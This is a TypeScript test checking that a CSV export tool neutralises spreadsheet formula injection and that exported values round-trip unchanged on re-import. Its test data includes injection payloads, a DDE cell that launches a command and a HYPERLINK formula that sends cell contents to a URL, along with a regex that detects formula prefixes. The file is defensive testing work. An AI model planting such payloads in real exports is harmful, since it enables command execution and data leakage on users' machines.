import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { project } from '../support/project.ts';

/** What spreadsheet programs compute, and what looks like our own way of preventing it. */
const FORMULAS = [
  '=HYPERLINK("https://example.com/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "'=1+1",
  "''-1",
  "'tis",
];

const COMPUTED = /^[=+\-@＝＋－＠\t\r\n]/;

test('no cell of an exported CSV is computed by a spreadsheet, and fed back it is what it was', async (t) => {
  const { directory, simulator, write, backhaul } = await project(t);
  const file = (name: string) => join(directory, name);
  const header = ['Id', 'Department', 'Customer', 'Sent', 'Direction', 'Body', '=1+1', '@x'];
  const rows = FORMULAS.map((body, index) => [`=m-${index}`, 'd', '-c', 'not yet', 'in', body, '+1', '@y']);
  write('export.csv', stringify([header, ...rows]));
  assert.equal((await backhaul('run')).exitCode, 3);

  assert.equal((await backhaul('export --state rejected -o rejects.csv')).exitCode, 0);
  const cells = parse(readFileSync(file('rejects.csv'))) as string[][];
  assert.equal(cells.length, FORMULAS.length + 1);
  for (const cell of cells.flat()) assert.doesNotMatch(cell, COMPUTED);

  // As a person would: only the column that was wrong changes.
  const corrected = readFileSync(file('rejects.csv'), 'utf8').replaceAll('not yet', '2024-01-01T09:00:00Z');
  writeFileSync(file('corrected.csv'), corrected);
  const fed = await backhaul('run --input corrected.csv');
  assert.equal(fed.exitCode, 0, fed.stderr + fed.stdout);
  const bodies = [...simulator.stored()].map(
    ({ item = '{}' }) => (JSON.parse(item) as { messageAttributes: { body: string } }).messageAttributes.body,
  );
  assert.deepEqual(bodies.sort(), [...FORMULAS].sort());
});

function stringify(rows: readonly (readonly string[])[]): string {
  return rows.map((row) => `${row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\n`).join('');
}
